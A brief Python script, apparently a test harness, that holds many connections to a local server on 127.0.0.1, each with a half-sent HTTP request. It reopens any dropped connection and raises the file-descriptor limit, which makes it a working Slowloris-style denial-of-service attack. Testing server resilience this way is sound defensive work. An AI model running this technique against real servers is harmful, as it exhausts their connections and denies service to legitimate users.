"""A process that holds many connections with half a request on each, and reopens those that are closed.

Its arguments are the port and the number of connections. It prints `opened` when each was opened once, and ends when
its input ends.
"""

import asyncio
import contextlib
import resource
import sys

HALF = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Half: "


async def attack(port: int, count: int) -> None:
    """Hold the connections until the input ends."""
    opened = 0

    async def hold() -> None:
        nonlocal opened
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                opened += 1
                if opened == count:
                    print("opened", flush=True)
                writer.write(HALF)
                with contextlib.closing(writer):
                    await reader.read()
            await asyncio.sleep(0.5)

    tasks = [asyncio.create_task(hold()) for _ in range(count)]
    await asyncio.to_thread(sys.stdin.read)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(attack(int(sys.argv[1]), int(sys.argv[2])))
